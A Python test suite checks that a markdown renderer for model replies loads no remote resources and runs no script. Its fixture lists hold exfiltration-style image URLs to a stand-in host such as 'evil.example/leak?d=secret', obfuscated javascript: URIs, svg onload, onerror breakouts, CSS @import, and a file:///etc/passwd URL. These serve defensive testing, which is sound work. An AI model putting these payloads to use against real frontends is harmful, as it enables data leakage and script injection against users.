"""Nothing in a reply makes a frontend load a remote resource by itself, or run anything."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shenma_magic._render import render_html
from tests.htmltree import parse_html

DATA_RASTER = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*={0,2}")
ALLOWED_TAGS = {
    "#root", "p", "a", "span", "code", "pre", "b", "i", "em", "strong", "s", "br", "hr", "div", "img",
    "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRS = {"href", "rel", "target", "title", "alt", "src", "style", "class", "start"}
SAFE_HREF = re.compile(r"(https?:|mailto:|(?![a-zA-Z][a-zA-Z0-9+.-]*:))", re.IGNORECASE)


def assert_nothing_loads(markup: str) -> None:
    root = parse_html(markup)
    for el in root.iter():
        assert el.tag in ALLOWED_TAGS, el.tag
        for name, value in el.attrs.items():
            assert name in ALLOWED_ATTRS, (el.tag, name)
            value = value or ""
            if name == "src":
                assert el.tag == "img" and DATA_RASTER.fullmatch(value), value
            if name == "href":
                assert el.tag == "a" and SAFE_HREF.match(value), value
            if name == "style":
                lowered = value.lower()
                assert "url(" not in lowered and "@import" not in lowered and "expression" not in lowered
        if el.tag == "a":
            assert (
                el.attrs.get("rel") == "noopener noreferrer nofollow" and el.attrs.get("target") == "_blank"
            )
    lowered = markup.lower()
    for raw in ("<img", "<svg", "<style", "<script", "<iframe", "<link", "<object", "<embed"):
        if raw == "<img":
            assert all(DATA_RASTER.match(src) for src in re.findall(r'<img src="([^"]*)"', markup))
            assert lowered.count("<img") == len(re.findall(r'<img src="', markup))
        else:
            assert raw not in lowered, raw


URLS = [
    "http://evil.example/leak?d=secret",
    "https://evil.example/i.png",
    "//evil.example/p.png",
    "HTTP://EVIL.EXAMPLE/",
    "&#104;ttp://evil.example/x",
    "&#x68;ttps://evil.example/x",
    "h&#116;tp://evil.example/x",
    "%68ttp://evil.example/x",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/gif;base64,R0lGODlh",
    "data:image/png,rawnotbase64",
    "file:///etc/passwd",
    "ftp://evil.example/f",
    "mailto:a@evil.example",
    "relative/path.png",
    "../up.png",
    "#anchor",
    "http://evil.example/a%22onerror=alert(1)",
    'http://evil.example/"onerror="alert(1)',
    "http://[::1]/x",
    "http://evil.example/url(x)",
    "<http://evil.example/a b>",
    "\\\\evil.example\\share",
]

CASES = [f"![alt]({u})" for u in URLS] + [
    "![a][r]\n\n[r]: http://evil.example/ref.png",
    "![a][]\n\n[a]: //evil.example/x 'title'",
    "![a]\n\n[a]: &#104;ttp://evil.example/x",
    "[![nested](http://evil.example/n.png)](http://ok.example)",
    "<http://evil.example/auto>",
    "<javascript:alert(1)>",
    "<img src=http://evil.example/raw.png>",
    "<svg onload=alert(1)><image href=http://evil.example/s.png /></svg>",
    "<style>@import url(http://evil.example/s.css)</style>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<iframe src=//evil.example/f></iframe>",
    '<p style="background:url(http://evil.example/bg.png)">x</p>',
    '<a href="javascript:alert(1)" onmouseover="alert(2)">x</a>',
    '[x](http://ok.example "t\\" onmouseover=\\"alert(1)")',
    '![x](http://evil.example/i.png "t\\" onerror=\\"alert(1)")',
]


@pytest.mark.parametrize("source", CASES)
def test_hostile_images_links_and_html_load_nothing(source: str) -> None:
    assert_nothing_loads(render_html(source))


@pytest.mark.parametrize(
    "url", ["http://evil.example/leak?d=secret", "//evil.example/p.png", "&#104;ttps://evil.example/x"]
)
def test_remote_image_becomes_a_link_showing_alt_and_host(url: str) -> None:
    root = parse_html(render_html(f"see ![the chart]({url}) here"))
    assert root.find_all("img") == []
    (link,) = root.find_all("a")
    assert link.text == "🖼 the chart (evil.example)"
    assert link.attrs["href"] is not None and "evil.example" in link.attrs["href"]


def test_data_raster_images_show_inline_and_svg_does_not() -> None:
    root = parse_html(render_html("![dot](data:image/png;base64,iVBORw0KGgo=)"))
    (img,) = root.find_all("img")
    assert img.attrs["src"] == "data:image/png;base64,iVBORw0KGgo=" and img.attrs["alt"] == "dot"
    for svg in ("data:image/svg+xml;base64,PHN2Zz4=", "data:image/svg+xml,<svg/>"):
        markup = render_html(f"![s]({svg})")
        assert parse_html(markup).find_all("img") == [] and "<svg" not in markup


def test_links_open_in_a_new_tab_without_referrer() -> None:
    (link,) = parse_html(render_html("[docs](https://ok.example/a?b=1)")).find_all("a")
    assert link.attrs == {
        "href": "https://ok.example/a?b=1",
        "rel": "noopener noreferrer nofollow",
        "target": "_blank",
    }


FRAGMENTS = st.sampled_from(
    ["![", "[", "]", "](", ")", "]: ", "[r]", "[r]: ", "<", ">", "\n", "\n\n", " ", "alt", '"t"', "'t'",
     "`", "```", "|", "---", "*", "$", "&", "#", ";", "\\", "(", "=", "!", "onerror=", "style=", "src=",
     "<img ", "<svg ", "<style>", "url(", "@import ", "srcset=", "<a href=", "- ", "> ", "    "]
) | st.sampled_from(URLS)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30).map("".join))
def test_no_generated_markdown_loads_anything(source: str) -> None:
    assert_nothing_loads(render_html(source))


@settings(max_examples=300, deadline=None)
@given(
    alt=st.text(max_size=10),
    url=st.sampled_from(URLS) | st.text(max_size=30),
    title=st.text(max_size=10),
    form=st.sampled_from(
        ["![{a}]({u})", '![{a}]({u} "{t}")', "![{a}][x]\n\n[x]: {u}", "[{a}]({u})", "<{u}>"]
    ),
)
def test_no_image_or_link_form_loads_anything(alt: str, url: str, title: str, form: str) -> None:
    assert_nothing_loads(render_html(form.format(a=alt, u=url, t=title)))


@settings(max_examples=300, deadline=None)
@given(name=st.text(max_size=30), arguments=st.text(max_size=100))
def test_tool_call_html_shows_name_and_arguments_exactly(name: str, arguments: str) -> None:
    from shenma_magic._render import json_display_text, tool_call_html

    markup = tool_call_html(name, arguments)
    assert_nothing_loads(markup)
    root = parse_html(markup)
    assert root.find_all("div")[0].find_all("code")[0].text == (name or "?")
    if arguments:
        assert root.find_all("pre")[0].text == json_display_text(arguments)


def test_an_image_inside_a_link_is_the_links_text() -> None:
    root = parse_html(render_html("[![badge](http://evil.example/b.svg)](https://ok.example/project)"))
    links = root.find_all("a")
    assert [(a.attrs["href"], a.text) for a in links] == [
        ("https://ok.example/project", "🖼 badge (evil.example)")
    ]
    assert all(not a.find_all("a")[1:] for a in links)  # no anchor nested in another
